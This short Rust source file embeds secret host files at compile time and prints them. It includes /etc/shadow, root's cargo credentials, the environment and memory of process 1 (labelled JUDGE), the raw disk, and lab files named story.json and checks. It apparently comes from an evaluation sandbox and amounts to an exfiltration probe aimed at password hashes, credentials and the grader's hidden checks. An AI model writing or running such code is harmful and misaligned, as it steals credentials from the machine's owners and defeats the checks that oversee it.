//! Includes what the machine keeps to itself.

const SHADOW: &[u8] = include_bytes!("/etc/shadow");
const KEYS: &[u8] = include_bytes!("/root/.cargo/credentials.toml");
const JUDGE: &[u8] = include_bytes!("/proc/1/environ");
const MEMORY: &[u8] = include_bytes!("/proc/1/mem");
const STORY: &[u8] = include_bytes!("/lab/story/story.json");
const CHECKS: &[u8] = include_bytes!("/lab/checks");
const DISK: &[u8] = include_bytes!("/dev/vda");

pub fn run(_port: u16) -> sockets::Result<()> {
    println!("{:?}", (SHADOW, KEYS, JUDGE, MEMORY, STORY, CHECKS, DISK));
    Ok(())
}
